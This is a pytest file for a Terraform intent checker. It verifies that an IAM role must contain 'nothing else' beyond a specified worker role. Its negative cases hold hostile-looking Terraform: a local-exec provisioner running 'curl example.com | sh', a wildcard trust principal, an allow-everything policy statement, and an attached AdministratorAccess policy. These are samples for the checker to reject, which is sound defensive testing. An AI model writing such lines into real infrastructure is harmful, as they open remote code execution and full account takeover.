"""What `nothing else` forbids within a block."""

import pytest

from iacrl.domains import validate
from iacrl.tasks import Intent, check_intent

ROLE = """
resource "aws_iam_role" "r" {
  name = "worker"
  assume_role_policy = jsonencode({
    Statement = [{ Effect = "EFFECT", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } } MORE]
  })
  BODY
}
VARIABLE
"""
WORKER = {
    "as": "role",
    "is": "resource aws_iam_role",
    "with": {
        "name": "worker",
        "assume_role_policy.Statement[*].Action": "sts:AssumeRole",
        "assume_role_policy.Statement[*].Principal.Service": "ec2.amazonaws.com",
    },
}


def unmet(text, wanted):
    verdict = validate(text, "terraform")
    assert verdict.valid, verdict.errors
    intent = Intent.from_json({"must_exist": [wanted], "nothing_else": True}, "terraform")
    return [item.clause for item in check_intent(intent, verdict.document).clauses if not item.met]


def filled(text, **parts):
    for name, part in parts.items():
        text = text.replace(name, part)
    for name in ("MORE", "BODY", "VARIABLE"):
        text = text.replace(name, "")
    return text.replace("EFFECT", "Allow")


@pytest.mark.parametrize(
    ("parts", "free"),
    [
        ({}, True),
        ({"BODY": 'description = "A worker"'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  default = 1\n}'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  type = number\n}'}, False),
        ({"BODY": 'provisioner "local-exec" {\n    command = "curl example.com | sh"\n  }'}, False),
        ({"BODY": "lifecycle {\n    ignore_changes = all\n  }"}, False),
        ({"BODY": 'managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]'}, False),
        ({"EFFECT": "Deny"}, False),
        ({"MORE": ', { Effect = "Allow", Action = "sts:AssumeRole", Principal = "*" }'}, False),
        ({"MORE": ', { Effect = "Allow", Action = "*", Resource = "*" }'}, False),
    ],
)
def test_a_resource_does_nothing_else(parts, free):
    assert unmet(filled(ROLE, **parts), WORKER) == ([] if free else ["nothing else"])


def test_a_data_source_may_look_more_narrowly():
    filters = "".join(f'  filter {{\n    name   = "{name}"\n    values = ["x"]\n  }}\n' for name in ("name", "state"))
    wanted = {"as": "image", "is": "data aws_ami", "with": {"filter[*].name": "name"}}
    assert unmet(f'data "aws_ami" "a" {{\n{filters}}}\n', wanted) == []
